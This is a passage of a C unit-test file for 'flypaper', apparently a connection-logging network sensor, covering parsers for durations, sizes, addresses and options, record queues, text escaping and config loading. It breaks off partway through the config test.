/* unit.c - table-driven tests of flypaper's pure parts. Prints each
 * failure and a closing "N passed, N failed" line; exits 1 on any failure. */
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <pthread.h>
#include <signal.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "addr.h"
#include "http.h"
#include "ident.h"
#include "respond.h"
#include "strategy.h"
#include "strategy_http.h"
#include "sandbox.h"
#include "config.h"
#include "options.h"
#include "units.h"
#include "jsonl.h"
#include "text.h"
#include "queue.h"
#include "record.h"
#include "session.h"
#include "deadlines.h"
#include "worker.h"
#include "writer.h"

static int passed, failed;

void test_output(int *passed, int *failed);  /* output.c */
void test_classifier(int *passed, int *failed);  /* classifier.c */
void test_session(int *passed, int *failed); /* session.c */
void test_families(int *passed, int *failed);  /* families.c */
void test_normalize(int *passed, int *failed);  /* normalize.c */
void test_shape(int *passed, int *failed);   /* shape.c */
void test_report_shapes(int *passed, int *failed);  /* report_shapes.c */
void test_report_tags(int *passed, int *failed);    /* report_tags.c */
void test_report_tls(int *passed, int *failed);     /* report_tls.c */
void test_report_top(int *passed, int *failed);     /* report_top.c */
void test_natsrow(int *passed, int *failed);        /* natsrow.c */
void test_natsurl(int *passed, int *failed);        /* natsurl.c */
void test_report_model(int *passed, int *failed);   /* report_model.c */
void test_rule_lint(int *passed, int *failed);      /* rule_lint.c */
void test_pcap(int *passed, int *failed);           /* pcap.c */
void test_synsig(int *passed, int *failed);         /* synsig.c */
void test_p0fdb(int *passed, int *failed);          /* p0fdb.c */
void test_proxy(int *passed, int *failed);   /* proxy.c */
void test_halfopen(int *passed, int *failed);       /* halfopen.c */
void test_stats(int *passed, int *failed);          /* stats.c */
void test_tlshello(int *passed, int *failed);       /* tlshello.c */
void test_promtext(int *passed, int *failed);       /* promtext.c */
void test_tls_front(int *passed, int *failed);      /* tls_front.c */
void test_syslog(int *passed, int *failed);         /* syslog.c */

#define CHECK(cond, ...)                                                   \
	do {                                                               \
		if (cond) {                                                \
			passed++;                                          \
		} else {                                                   \
			failed++;                                          \
			printf("FAIL %s:%d: %s: ", __FILE__, __LINE__, #cond); \
			printf(__VA_ARGS__);                               \
			printf("\n");                                      \
		}                                                          \
	} while (0)

static void test_durations(void)
{
	static const struct {
		const char *text;
		int ok;
		uint64_t ms;
	} cases[] = {
		{"100ms", 1, 100}, {"30s", 1, 30000}, {"30", 1, 30000},
		{"15m", 1, 900000}, {"24h", 1, 86400000}, {"1.5s", 1, 1500},
		{"0.1s", 1, 100}, {"0ms", 1, 0}, {"", 0, 0}, {"s", 0, 0},
		{"10x", 0, 0}, {"-5s", 0, 0}, {"5 s", 0, 0}, {"ms", 0, 0},
		{"1e3ms", 1, 1000}, {"3d", 0, 0},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		uint64_t ms = 12345;
		int rc = units_parse_duration(cases[i].text, &ms);
		CHECK((rc == 0) == cases[i].ok, "duration '%s' rc %d", cases[i].text, rc);
		if (cases[i].ok && rc == 0)
			CHECK(ms == cases[i].ms, "duration '%s' = %llu, want %llu",
			    cases[i].text, (unsigned long long)ms,
			    (unsigned long long)cases[i].ms);
	}
}

static void test_sizes(void)
{
	static const struct {
		const char *text;
		int ok;
		size_t bytes;
	} cases[] = {
		{"4096", 1, 4096}, {"64k", 1, 65536}, {"64K", 1, 65536},
		{"1M", 1, 1048576}, {"1MiB", 1, 1048576}, {"2G", 1, 2147483648UL},
		{"1MB", 1, 1048576}, {"0", 1, 0}, {"", 0, 0}, {"k", 0, 0},
		{"12q", 0, 0}, {"-1", 0, 0}, {"1Mx", 0, 0},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		size_t b = 7;
		int rc = units_parse_size(cases[i].text, &b);
		CHECK((rc == 0) == cases[i].ok, "size '%s' rc %d", cases[i].text, rc);
		if (cases[i].ok && rc == 0)
			CHECK(b == cases[i].bytes, "size '%s' = %zu", cases[i].text, b);
	}
}

static void test_addrs(void)
{
	static const struct {
		const char *text;
		int ok;
		const char *formatted;
		int wildcard;
	} cases[] = {
		{"127.0.0.1:8080", 1, "127.0.0.1:8080", 0},
		{"[::1]:8080", 1, "[::1]:8080", 0},
		{"*:80", 1, "0.0.0.0:80", 1},
		{"0.0.0.0:0", 1, "0.0.0.0:0", 1},
		{"[::]:443", 1, "[::]:443", 1},
		{"[fe80::1%eth0]:80", 0, NULL, 0},
		{"::1:8080", 0, NULL, 0},
		{"127.0.0.1", 0, NULL, 0},
		{"127.0.0.1:", 0, NULL, 0},
		{"127.0.0.1:65536", 0, NULL, 0},
		{"127.0.0.1:-1", 0, NULL, 0},
		{"localhost:80", 0, NULL, 0},
		{"[::1]8080", 0, NULL, 0},
		{":80", 0, NULL, 0},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct addr a;
		char buf[ADDR_TEXT_LEN];
		int rc = addr_parse(cases[i].text, &a);
		CHECK((rc == 0) == cases[i].ok, "addr '%s' rc %d", cases[i].text, rc);
		if (!cases[i].ok || rc != 0)
			continue;
		addr_format(&a, buf, sizeof(buf));
		CHECK(strcmp(buf, cases[i].formatted) == 0, "addr '%s' -> '%s'",
		    cases[i].text, buf);
		CHECK(addr_is_wildcard(&a) == cases[i].wildcard, "wildcard '%s'",
		    cases[i].text);
	}

	/* An IPv4-mapped IPv6 peer is recorded as plain IPv4. */
	struct addr m;
	char ip[ADDR_TEXT_LEN];
	addr_parse("[::ffff:10.1.2.3]:99", &m);
	CHECK(strcmp(addr_ip(&m, ip, sizeof(ip)), "10.1.2.3") == 0, "mapped %s", ip);
	CHECK(addr_port(&m) == 99, "port %u", addr_port(&m));
}

static void test_source_keys(void)
{
	static const struct {
		const char *a, *b;
		bool same;           /* one source */
	} cases[] = {
		{"1.2.3.4:1", "[::ffff:1.2.3.4]:2", true},
		{"1.2.3.4:1", "1.2.3.4:9", true},
		{"1.2.3.4:1", "1.2.3.5:1", false},
		{"[2001:db8::1]:1", "[2001:db8::2]:1", true},
		{"[2001:db8::1]:1", "[2001:db8:0:0:8000::1]:1", true},
		{"[2001:db8::1]:1", "[2001:db8:0:1::1]:1", false},
		{"[2001:db8::1]:1", "[2001:db9::1]:1", false},
		{"[::1]:1", "[::2]:1", true},
		{"[::1.2.3.4]:1", "1.2.3.4:1", false},      /* v4-compatible is IPv6 */
		{"[::ffff:0.0.0.0]:1", "[::]:1", false},
		{"0.0.0.0:1", "[::]:1", false},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct addr a, b;
		uint8_t ka[ADDR_KEY_LEN], kb[ADDR_KEY_LEN];
		CHECK(addr_parse(cases[i].a, &a) == 0 && addr_parse(cases[i].b, &b) == 0,
		    "key case %zu parses", i);
		addr_source_key(&a, ka);
		addr_source_key(&b, kb);
		CHECK((memcmp(ka, kb, ADDR_KEY_LEN) == 0) == cases[i].same,
		    "key case %zu: %s and %s", i, cases[i].a, cases[i].b);
	}
	struct addr v4;
	uint8_t k[ADDR_KEY_LEN];
	static const uint8_t want[ADDR_KEY_LEN] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff,
	    1, 2, 3, 4};
	addr_parse("1.2.3.4:80", &v4);
	addr_source_key(&v4, k);
	CHECK(memcmp(k, want, ADDR_KEY_LEN) == 0, "an IPv4 key is ::ffff:a.b.c.d");
}

/* The one normalisation of a host address: IPv4 and v4-mapped IPv6 are
 * the same 4 bytes, any other IPv6 (v4-compatible included) 16. */
static void test_addr_ip_bytes(void)
{
	static const struct {
		const char *text;
		size_t len;
		uint8_t ip[ADDR_IP_MAX];
	} cases[] = {
		{"1.2.3.4:80", 4, {1, 2, 3, 4}},
		{"[::ffff:1.2.3.4]:81", 4, {1, 2, 3, 4}},
		{"0.0.0.0:0", 4, {0}},
		{"[::ffff:0.0.0.0]:1", 4, {0}},
		{"255.255.255.255:1", 4, {255, 255, 255, 255}},
		{"[2001:db8::1]:1", 16, {0x20, 0x01, 0x0d, 0xb8, [15] = 1}},
		{"[::1.2.3.4]:1", 16, {[12] = 1, 2, 3, 4}},
		{"[::ffff:0:1.2.3.4]:1", 16, {[8] = 0xff, 0xff, 0, 0, 1, 2, 3, 4}}, /* translated */
		{"[::]:1", 16, {0}},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct addr a;
		uint8_t ip[ADDR_IP_MAX];
		memset(ip, 0xaa, sizeof(ip));
		CHECK(addr_parse(cases[i].text, &a) == 0, "ip bytes case %zu parses", i);
		size_t n = addr_ip_bytes(&a, ip);
		CHECK(n == cases[i].len && memcmp(ip, cases[i].ip, n) == 0,
		    "ip bytes of %s: %zu bytes, %02x%02x%02x%02x...", cases[i].text, n,
		    ip[0], ip[1], ip[2], ip[3]);
	}
}

static void test_timestamps_and_ids(void)
{
	static const struct {
		time_t sec;
		long nsec;
		const char *want;
	} cases[] = {
		{0, 0, "1970-01-01T00:00:00.000000Z"},
		{1795755600, 123456789, "2026-11-27T05:00:00.123456Z"},
		{951782400, 999999999, "2000-02-29T00:00:00.999999Z"},
	};
	char buf[RECORD_TS_LEN], id[RECORD_ID_LEN];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct timespec ts = {cases[i].sec, cases[i].nsec};
		record_format_ts(&ts, buf);
		CHECK(strcmp(buf, cases[i].want) == 0, "ts %s want %s", buf, cases[i].want);
	}
	record_id_hex(0xabcULL, id);
	CHECK(strcmp(id, "0000000000000abc") == 0, "id %s", id);
	record_id_hex(UINT64_MAX, id);
	CHECK(strcmp(id, "ffffffffffffffff") == 0, "id %s", id);

	/* Ids rise by one within a block and never repeat. */
	uint64_t prev = record_new_id();
	int rising = 0, distinct = 1;
	for (int i = 0; i < 100000; i++) {
		uint64_t id2 = record_new_id();
		if (id2 == prev + 1)
			rising++;
		if (id2 == prev)
			distinct = 0;
		prev = id2;
	}
	CHECK(rising >= 99990, "ids rising %d of 100000", rising);
	CHECK(distinct, "a repeated id");

	static const struct {
		enum close_reason r;
		const char *name;
	} reasons[] = {
		{CLOSE_PEER_FIN, "peer_fin"}, {CLOSE_PEER_RST, "peer_rst"},
		{CLOSE_IDLE_TIMEOUT, "idle_timeout"},
		{CLOSE_SESSION_TIMEOUT, "session_timeout"},
		{CLOSE_SERVER_CLOSE, "server_close"}, {CLOSE_CAPACITY, "capacity"},
		{CLOSE_SHUTDOWN, "shutdown"},
		{CLOSE_SYN_ONLY, "syn_only"},
		{CLOSE_RST_AFTER_SYNACK, "rst_after_synack"},
		{CLOSE_PROXY_ERROR, "proxy_error"},
	};
	for (size_t i = 0; i < sizeof(reasons) / sizeof(reasons[0]); i++)
		CHECK(strcmp(record_reason_name(reasons[i].r), reasons[i].name) == 0,
		    "reason %d", reasons[i].r);
}

static struct record *make_record(size_t payload_len)
{
	struct record *r = calloc(1, sizeof(*r));
	r->kind = RECORD_CLOSED;
	r->first_byte_ms = -1;
	if (payload_len) {
		r->payload = malloc(payload_len);
		memset(r->payload, 'x', payload_len);
		r->payload_len = payload_len;
	}
	return r;
}

static void record_free_list(struct record *r)
{
	while (r) {
		struct record *next = r->next;
		record_free(r);
		r = next;
	}
}

/* The queue's byte cap counts whole records: struct, payload, IDENT
 * result, requests. R is one record without anything attached. */
static void test_queue_caps(void)
{
	const size_t R = sizeof(struct record);
	struct queue q;
	struct queue_stats st;
	int n = 0, lost = 0;

	/* Room for four bare records and 70 payload bytes. */
	queue_init(&q, 5, 4 * R + 70);
	CHECK(queue_push(&q, make_record(60)) == 0, "first push");
	CHECK(queue_push(&q, make_record(0)) == 0, "second push");
	CHECK(queue_push(&q, make_record(0)) == 0, "third push");
	CHECK(queue_push(&q, make_record(60)) == 0, "fourth push keeps metadata");
	CHECK(queue_push(&q, make_record(0)) == -1,
	    "fifth push: the records alone pass the byte cap");
	queue_get_stats(&q, &st);
	CHECK(st.payloads_dropped == 1, "payloads dropped %llu",
	    (unsigned long long)st.payloads_dropped);
	CHECK(st.payload_bytes_dropped == 60, "bytes dropped");
	CHECK(st.records_dropped == 1, "records dropped");
	CHECK(q.bytes == 4 * R + 60, "queue counts %zu, holds %zu", q.bytes, 4 * R + 60);
	struct record *list = queue_pop_all(&q, 0);
	for (struct record *r = list; r;) {
		struct record *next = r->next;
		n++;
		if (r->payload_lost) {
			lost++;
			CHECK(r->payload == NULL && r->payload_len == 60,
			    "lost payload keeps its length");
		}
		record_free(r);
		r = next;
	}
	CHECK(n == 4 && lost == 1, "popped %d, %d lost", n, lost);
	CHECK(queue_pop_all(&q, 10) == NULL, "empty pop times out");
	queue_destroy(&q);

	/* Payloads stop at three quarters of the cap: the last quarter holds
	 * the records whose payload was dropped. */
	queue_init(&q, 100, 8 * R);
	for (int i = 0; i < 5; i++)
		CHECK(queue_push(&q, make_record(R)) == 0, "reserve: push %d", i);
	queue_get_stats(&q, &st);
	CHECK(st.payloads_dropped == 2 && st.records_dropped == 0,
	    "reserve: %llu payloads, %llu records dropped",
	    (unsigned long long)st.payloads_dropped, (unsigned long long)st.records_dropped);
	CHECK(q.bytes == 8 * R, "reserve: the queue is full with %zu", q.bytes);
	record_free_list(queue_pop_all(&q, 0));
	queue_destroy(&q);

	queue_init(&q, 2, 100 * R);
	CHECK(queue_push(&q, make_record(10)) == 0, "record cap: first");
	CHECK(queue_push(&q, make_record(10)) == 0, "record cap: second");
	CHECK(queue_push(&q, make_record(10)) == -1, "record cap: third refused");
	record_free_list(queue_pop_all(&q, 0));

	/* An IDENT result and requests count too: with them a record no
	 * longer fits where a bare one would. */
	queue_destroy(&q);
	queue_init(&q, 100, 2 * R + 100);
	struct record *r = make_record(50);
	r->ident = calloc(1, sizeof(*r->ident));
	r->requests = calloc(3, sizeof(*r->requests));
	r->nrequests = 3;
	CHECK(queue_push(&q, r) == -1, "a record with IDENT and requests over the cap");
	CHECK(queue_push(&q, make_record(90)) == 0, "a bare record fits");
	queue_get_stats(&q, &st);
	CHECK(st.payloads_dropped == 1 && st.records_dropped == 1,
	    "ident record: payload then record dropped");
	queue_stop(&q);
	CHECK(!queue_drained(&q), "not drained while a record waits");
	record_free_list(queue_pop_all(&q, 0));
	CHECK(queue_drained(&q), "drained");
	queue_destroy(&q);
}

/* record_size is the sum of what the record's allocations hold. */
static void test_record_size(void)
{
	struct record *r = make_record(1000);
	size_t want = sizeof(*r) + 1000;

	CHECK(record_size(r) == want, "payload only %zu want %zu", record_size(r), want);
	r->ident = calloc(1, sizeof(*r->ident));
	want += sizeof(*r->ident);
	r->requests = calloc(7, sizeof(*r->requests));
	r->nrequests = 7;
	want += 7 * sizeof(*r->requests);
	r->matches = calloc(2, sizeof(*r->matches));
	r->nmatches = 2;
	want += 2 * sizeof(*r->matches);
	CHECK(record_size(r) == want, "full record %zu want %zu", record_size(r), want);
	CHECK(record_size(r) > 5000, "an IDENT record is more than its payload (%zu)",
	    record_size(r));
	free(r->payload);
	r->payload = NULL;
	CHECK(record_size(r) == want - 1000, "a lost payload no longer counts");
	record_free(r);
}

static void test_escape(void)
{
	char out[64];

	text_escape_into("GET /\r\n\x00\xff\\", 10, out, sizeof(out), false);
	CHECK(strcmp(out, "GET /\\x0d\\x0a\\x00\\xff\\x5c") == 0, "escaped '%s'", out);
	text_escape_into("GET /\r\n\t\x01", 9, out, sizeof(out), true);
	CHECK(strcmp(out, "GET /\r\n\t\\x01") == 0, "newlines kept '%s'", out);
	text_escape_into("abcdefghijkl", 12, out, 8, false);
	CHECK(strlen(out) < 8, "bounded '%s'", out);
	text_escape_into("\xff\xff\xff", 3, out, 6, false);
	CHECK(strcmp(out, "\\xff") == 0, "never splits an escape '%s'", out);

	/* Database strings for display: stored escapes stay readable, every
	 * byte outside printable ASCII (C0, ESC, DEL, C1, UTF-8) is escaped. */
	static const struct {
		const char *in;
		size_t len;
		const char *want;
	} display[] = {
		{"a\\x1b<b>", 8, "a\\x1b<b>"},
		{"\x1b]0;t\x07\x1b[2J", 10, "\\x1b]0;t\\x07\\x1b[2J"},
		{"\xc2\x9b" "1m\x7f", 5, "\\xc2\\x9b1m\\x7f"},
		{"\xe2\x80\xa8\xff", 4, "\\xe2\\x80\\xa8\\xff"},
		{"a\0b\n", 4, "a\\x00b\\x0a"},
		{"", 0, ""},
	};
	for (size_t i = 0; i < sizeof(display) / sizeof(display[0]); i++) {
		size_t n = text_display_into(display[i].in, display[i].len, out, sizeof(out));
		CHECK(strcmp(out, display[i].want) == 0 && n == strlen(out),
		    "display %zu: '%s'", i, out);
	}
	CHECK(text_display_into("\x1b\x1b", 2, out, 5) == 4 && strcmp(out, "\\x1b") == 0,
	    "display never splits an escape '%s'", out);
}

static int write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	if (!f)
		return -1;
	fputs(text, f);
	return fclose(f);
}

/* The pause decision: over max-lag, with something uncommitted, and only
 * while the store is healthy. */
static void test_writer_lag(void)
{
	static const struct {
		uint64_t oldest_ms, now_ms, max_ms;
		bool failing, behind;
	} cases[] = {
		{0, 5000, 500, false, false},        /* nothing uncommitted */
		{1000, 1400, 500, false, false},     /* 400 ms behind */
		{1000, 1500, 500, false, false},     /* exactly at max-lag */
		{1000, 1501, 500, false, true},
		{1000, 9000, 500, false, true},
		{1000, 9000, 500, true, false},      /* a failing store: keep accepting */
		{1000, 9000, 0, false, false},       /* max-lag 0: never */
		{2000, 1000, 500, false, false},     /* a clock read before the push */
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		CHECK(writer_lag_exceeds(cases[i].oldest_ms * 1000000ULL, cases[i].failing,
		    cases[i].now_ms * 1000000ULL, cases[i].max_ms * 1000000ULL) == cases[i].behind,
		    "lag case %zu", i);
}

/* The queue publishes when the oldest record not yet committed was pushed:
 * the head while queued, the popped batch's first until it is committed. */
static void test_queue_oldest(void)
{
	struct queue q;

	queue_init(&q, 100, 1 << 20);
	CHECK(queue_oldest_ns(&q) == 0, "empty: none");
	uint64_t before = uv_hrtime();
	queue_push(&q, make_record(10));
	uint64_t first = queue_oldest_ns(&q);
	CHECK(first >= before && first <= uv_hrtime(), "the first push's time");
	queue_push(&q, make_record(10));
	CHECK(queue_oldest_ns(&q) == first, "a later push does not move it");
	struct record *batch = queue_pop_all(&q, 0);
	CHECK(queue_oldest_ns(&q) == first, "popped, not committed: still the first");
	queue_push(&q, make_record(10));
	CHECK(queue_oldest_ns(&q) == first, "a push behind a held batch");
	uint64_t third = q.head_ns;
	CHECK(third >= first, "the third push's time");
	record_free_list(batch);
	queue_committed(&q);
	CHECK(queue_oldest_ns(&q) == third, "committed: the queue's head");
	batch = queue_pop_all(&q, 0);
	batch->next = queue_pop_all(&q, 0);
	CHECK(batch->next == NULL && queue_oldest_ns(&q) == third,
	    "an empty pop keeps what is held");
	record_free_list(batch);
	queue_committed(&q);
	CHECK(queue_oldest_ns(&q) == 0, "all committed: none");
	queue_destroy(&q);
}

/* The option rows' types: each parses, bounds, stores and frees its field,
 * with the messages the option table's users depend on. */
struct test_opts {
	bool flag;
	int i, choice;
	size_t count, size;
	uint64_t ms;
	double d;
	char *str, *text, *name;
	const char *arg;
};

static void test_options(void)
{
	static const char *const colours[] = {"red", "green", "blue", NULL};
#define TF(f) offsetof(struct test_opts, f)
	static const struct option_row rows[] = {
		{.name = "flag", .type = OPTION_FLAG, .field = TF(flag)},
		{.name = "int", .type = OPTION_INT, .field = TF(i), .min = 1, .max = 10},
		{.name = "port", .type = OPTION_INT, .field = TF(i), .min = 1, .max = 65535,
		    .syntax = "is not a port"},
		{.name = "count", .type = OPTION_COUNT, .field = TF(count), .min = 16, .max = 100},
		{.name = "size", .type = OPTION_SIZE, .field = TF(size), .min = 64 * 1024,
		    .max = OPTIONS_SIZE_MAX},
		{.name = "small", .type = OPTION_SIZE, .field = TF(size), .max = 1000,
		    .over = "is too big"},
		{.name = "dur", .type = OPTION_DURATION, .field = TF(ms), .min = 10,
		    .max = 24ULL * 3600 * 1000},
		{.name = "lag", .type = OPTION_DURATION, .field = TF(ms), .min = 100, .max = 60000,
		    .zero_ok = true, .under = "is not 0 or within 100ms..60s",
		    .over = "is not 0 or within 100ms..60s"},
		{.name = "p", .type = OPTION_PROBABILITY, .field = TF(d), .max = 1},
		{.name = "rate", .type = OPTION_DOUBLE, .field = TF(d), .max = 1000},
		{.name = "str", .type = OPTION_STRING, .field = TF(str), .min = 1, .max = 8,
		    .under = "empty"},
		{.name = "text", .type = OPTION_TEXT, .field = TF(text), .max = 8},
		{.name = "name", .type = OPTION_NAME, .field = TF(name), .min = 1, .max = 8,
		    .under = "not a name", .over = "not a name"},
		{.name = "colour", .type = OPTION_CHOICE, .field = TF(choice), .choices = colours},
		{.name = "arg", .type = OPTION_ARG, .field = TF(arg)},
	};
#undef TF
	static const struct {
		const char *name, *value;
		const char *err;     /* NULL: accepted; else the whole message */
		double want;         /* the stored number, when accepted */
	} cases[] = {
		{"flag", "yes", NULL, 1}, {"flag", "0", NULL, 0},
		{"flag", "maybe", "flag: 'maybe' is not true or false", 0},
		{"int", "10", NULL, 10}, {"int", "1", NULL, 1},
		{"int", "0", "int: '0' is not a number from 1 to 10", 0},
		{"int", "11", "int: '11' is not a number from 1 to 10", 0},
		{"int", "-1", "int: '-1' is not a number from 1 to 10", 0},
		{"int", "5x", "int: '5x' is not a number from 1 to 10", 0},
		{"int", "", "int: '' is not a number from 1 to 10", 0},
		{"int", "99999999999999999999", "int: '99999999999999999999' is not a number from 1 to 10", 0},
		{"port", "70000", "port: '70000' is not a port", 0},
		{"count", "16", NULL, 16}, {"count", "15", "count: '15' is not a number from 16 to 100", 0},
		{"size", "64k", NULL, 65536}, {"size", "1M", NULL, 1048576},
		{"size", "63k", "size: '63k' is under 64k", 0},
		{"size", "2048G", "size: '2048G' is over 1T", 0},
		{"size", "lots", "size: 'lots' is not a size (e.g. 4096, 64k, 1M, 1G)", 0},
		{"small", "1000", NULL, 1000}, {"small", "1001", "small: '1001' is too big", 0},
		{"dur", "10ms", NULL, 10}, {"dur", "1.5s", NULL, 1500}, {"dur", "24h", NULL, 86400000},
		{"dur", "9ms", "dur: '9ms' is under 10ms", 0},
		{"dur", "25h", "dur: '25h' is over 24h", 0},
		{"dur", "soon", "dur: 'soon' is not a duration (e.g. 500ms, 30s, 15m, 2h)", 0},
		{"lag", "0", NULL, 0}, {"lag", "100ms", NULL, 100},
		{"lag", "50ms", "lag: '50ms' is not 0 or within 100ms..60s", 0},
		{"lag", "61s", "lag: '61s' is not 0 or within 100ms..60s", 0},
		{"p", "never", NULL, 0}, {"p", "always", NULL, 1}, {"p", "0.25", NULL, 0.25},
		{"p", "1.5", "p: '1.5' is not never, always or a probability from 0 to 1", 0},
		{"p", "nan", "p: 'nan' is not never, always or a probability from 0 to 1", 0},
		{"rate", "2.5", NULL, 2.5}, {"rate", "-1", "rate: '-1' is not a number from 0 to 1000", 0},
		{"str", "abc", NULL, 0}, {"str", "", "str: empty", 0},
		{"str", "123456789", "str: longer than 8 bytes", 0},
		{"text", "a\\r\\n", NULL, 0},
		{"text", "a\\q", "unknown escape '\\q' (use \\r \\n \\t \\\\)", 0},
		{"name", "lab", NULL, 0}, {"name", "l\x1b]0", "name: not a name", 0},
		{"name", "123456789", "name: not a name", 0},
		{"colour", "blue", NULL, 2},
		{"colour", "pink", "colour: 'pink' is not red, green or blue", 0},
		{"arg", "anything", NULL, 0},
	};
	const size_t nrows = sizeof(rows) / sizeof(rows[0]);

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct test_opts o = {.i = -7};
		char err[256] = "";
		const struct option_row *row = options_find(rows, nrows, cases[i].name);
		int rc = options_set(row, &o, cases[i].value, err, sizeof(err));
		if (cases[i].err) {
			CHECK(rc < 0 && strcmp(err, cases[i].err) == 0,
			    "option case %zu: rc %d message '%s', want '%s'", i, rc, err, cases[i].err);
			CHECK(o.i == -7 && !o.str && !o.text && !o.name,
			    "option case %zu: a refused value leaves the field", i);
		} else {
			double got = row->type == OPTION_FLAG ? o.flag
			    : row->type == OPTION_INT ? o.i : row->type == OPTION_CHOICE ? o.choice
			    : row->type == OPTION_COUNT || row->type == OPTION_SIZE ? (double)o.size + (double)o.count
			    : row->type == OPTION_DURATION ? (double)o.ms
			    : row->type == OPTION_PROBABILITY || row->type == OPTION_DOUBLE ? o.d : 0;
			CHECK(rc == 0 && got == cases[i].want,
			    "option case %zu: rc %d (%s), stored %g, want %g", i, rc, err, got, cases[i].want);
		}
		options_free(rows, nrows, &o);
		CHECK(!o.str && !o.text && !o.name, "option case %zu: freed", i);
	}

	/* Strings: a new value replaces (and frees) the old; TEXT unescapes;
	 * ARG borrows. */
	struct test_opts o = {0};
	char err[256], value[] = "borrowed";
	CHECK(options_set(options_find(rows, nrows, "str"), &o, "one", err, sizeof(err)) == 0 &&
	    options_set(options_find(rows, nrows, "str"), &o, "two", err, sizeof(err)) == 0 &&
	    strcmp(o.str, "two") == 0, "string replaced");
	CHECK(options_set(options_find(rows, nrows, "text"), &o, "\\r\\n\\t\\\\", err,
	    sizeof(err)) == 0 && strcmp(o.text, "\r\n\t\\") == 0, "escapes");
	CHECK(options_set(options_find(rows, nrows, "arg"), &o, value, err, sizeof(err)) == 0 &&
	    o.arg == value, "arg borrowed");
	options_free(rows, nrows, &o);
	CHECK(!options_find(rows, nrows, "nope"), "unknown name");

	/* Commands and sections: --help shows a row to the commands it names;
	 * the listing says which. */
	static const struct option_row cmd_rows[] = {
		{.name = "both", .type = OPTION_FLAG, .help = "b", .commands = 3, .section = "s"},
		{.name = "first", .type = OPTION_ARG, .metavar = "X", .help = "f", .commands = 1},
	};
	static const char *const names[] = {"one", "two", NULL};
	char buf[512];
	FILE *f = fmemopen(buf, sizeof(buf), "w");
	options_usage(f, cmd_rows, 2, 2);
	fputs("|", f);
	options_list(f, cmd_rows, 2, names);
	fclose(f);
	CHECK(strcmp(buf, "      --both                b\n|both\ts\tone,two\t-\tb\n"
	    "first\t-\tone\tX\tf\n") == 0, "usage and listing: '%s'", buf);
}

static void test_config(void)
{
	static const struct {
		const char *file;
		int ok;
		const char *err;     /* a part of the message */
	} cases[] = {
		{"idle-timeout = 5s\nlisten = 127.0.0.1:81\n", 1, NULL},
		{"[flypaper]\non-timeout = goaway\n", 1, NULL},
		{"idle-timeout = 5s\n\nidle-timeout = 5x\n", 0, ":3: idle-timeout: '5x'"},
		{"bogus = 1\n", 0, ":1: unknown option 'bogus'"},
		{"[other]\nworkers = 2\n", 0, ":2: unknown section [other]"},
		{"no equals sign here\n", 0, ":1: not a 'name = value' line"},
		{"listen = 1.2.3.4\n", 0, ":1: listen: '1.2.3.4' is not ADDR:PORT"},
		{"idle-timeout = 50ms\n", 0, "outside 100ms..24h"},
		{"on-timeout = maybe\n", 0, "not drop, goaway or reset"},
		{"goaway-text = bad\\q\n", 0, "unknown escape"},
		{"workers = 0\n", 0, "workers: '0'"},
		{"max-payload = 1000000000\n", 1, NULL},
		{"max-payload = 1000000001\n", 0, ":1: max-payload: '1000000001' is over 1000000000"},
		{"max-payload = 2G\n", 0, ":1: max-payload: '2G' is over 1000000000"},
		{"sensor = lab\x1b]0;x\n", 0, ":1: sensor: name must be 1 to 64 printable ASCII"},
		{"sensor = lab\xc3\xa9\n", 0, ":1: sensor: name must be 1 to 64 printable ASCII"},
		{"max-conns-per-source = 8\nmax-buffered = 64M\n", 1, NULL},
		{"max-conns-per-source = 0\n", 0, "max-conns-per-source: '0'"},
		{"max-buffered = lots\n", 0, "max-buffered: 'lots' is not a size"},
		{"queue-bytes = 1k\n", 0, "queue-bytes: '1k' is under 64k"},
		{"queue-bytes = 64k\n", 1, NULL},
		{"max-lag = 250ms\n", 1, NULL},
		{"max-lag = 0\n", 1, NULL},
		{"max-lag = 60s\n", 1, NULL},
		{"max-lag = 100ms\n", 1, NULL},
		{"max-lag = 50ms\n", 0, ":1: max-lag: '50ms' is not 0 or within 100ms..60s"},
		{"max-lag = 61s\n", 0, ":1: max-lag: '61s' is not 0 or within 100ms..60s"},
		{"max-lag = soon\n", 0, ":1: max-lag: 'soon' is not a duration"},
	};
	char path[] = "/tmp/flypaper-unit-XXXXXX";
	int fd = mkstemp(path);

	close(fd);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct config cfg;
		char err[CONFIG_ERR_LEN] = "";
		config_defaults(&cfg);
		write_file(path, cases[i].file);
		int rc = config_load_file(&cfg, path, err, sizeof(err));
		CHECK((rc == 0) == cases[i].ok, "config case %zu rc %d (%s)", i, rc, err);
		if (!cases[i].ok)
			CHECK(strstr(err, cases[i].err) && strncmp(err, path, strlen(path)) == 0,
			    "config case %zu message '%s', want '%s'", i, err, cases[i].err);
		config_free(&cfg);
	}

	/* The largest --max-payload is a BLOB the linked SQLite stores. */
	sqlite3 *db = NULL;
	CHECK(sqlite3_open(":memory:", &db) == SQLITE_OK &&
	    sqlite3_limit(db, SQLITE_LIMIT_LENGTH, -1) >= CONFIG_MAX_PAYLOAD_MAX,
	    "SQLite's length limit %d is under --max-payload's maximum",
	    db ? sqlite3_limit(db, SQLITE_LIMIT_LENGTH, -1) : -1);
	sqlite3_close(db);

	/* Flags win over the file; --listen replaces the file's list. */
	struct config cfg;
	char err[CONFIG_ERR_LEN] = "";
	write_file(path, "idle-timeout = 5s\nlisten = 127.0.0.1:81\nlisten = 127.0.0.1:82\n"
	                 "goaway-text = bye\\r\\n\n");
